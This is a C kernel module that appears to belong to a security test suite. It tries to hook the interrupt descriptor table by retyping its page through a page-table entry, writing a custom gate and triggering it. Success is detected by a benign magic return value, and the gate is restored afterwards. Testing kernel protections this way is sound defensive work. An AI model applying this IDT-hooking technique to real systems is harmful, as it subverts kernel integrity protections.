/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Has the page of the IDT taken for a page table, so that it is memory like any other when that is over;
 * then writes a gate into it and takes it.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/io.h>
#include <asm/desc.h>

/* Reserved by the architecture and not used by the kernel. */
#define VECTOR 0x1e
#define HOOKED 0x5ec3u

void secpod_idt_retype_hook(void);
asm(".pushsection .text\n"
    "secpod_idt_retype_hook:\n\t"
    "endbr64\n\t"
    "mov $0x5ec3, %eax\n\t"
    "iretq\n"
    ".popsection");

static unsigned long answer;

static void hook_and_take(u64 *gate)
{
	const u64 before[] = {gate[0], gate[1]};
	gate_desc own;
	unsigned int fault = 1;

	pack_gate(&own, GATE_INTERRUPT, (unsigned long)secpod_idt_retype_hook, 0, 0, __KERNEL_CS);
	if (!attack_store(&gate[0], ((u64 *)&own)[0]) || !attack_store(&gate[1], ((u64 *)&own)[1]))
		return;
	asm volatile(ATTACK_TRY("int $0x1e")
		     : [fault] "+r"(fault), "+a"(answer)
		     :
		     : "memory", "cc");
	(void)attack_store(&gate[0], before[0]);
	(void)attack_store(&gate[1], before[1]);
}

static int attempt(void)
{
	struct desc_ptr table;
	const unsigned long area = attack_area();
	unsigned long flags;
	u64 physical, *link;
	u8 *alias;

	store_idt(&table);
	physical = attack_physical((void *)table.address);
	alias = attack_map(physical, PAGE_KERNEL);
	if (!alias || !area)
		return -ENOMEM;
	link = attack_slot(area, 2, NULL);
	local_irq_save(flags);
	/* Whether that is refused or not. */
	(void)attack_store(link, physical | ATTACK_TABLE);
	(void)attack_store(link, 0);
	hook_and_take((u64 *)(alias + VECTOR * sizeof(gate_desc)));
	local_irq_restore(flags);
	return 0;
}

static bool effect(void)
{
	attack_detail("the interrupt answered 0x%lx", answer);
	return answer == HOOKED;
}

static const struct attack idt_retype = {
	"idt_retype", "descriptor-table,page-table-type,page-table-entry,kernel-user",
	NULL,	      attempt,
	effect,	      NULL};
ATTACK_MODULE(idt_retype);
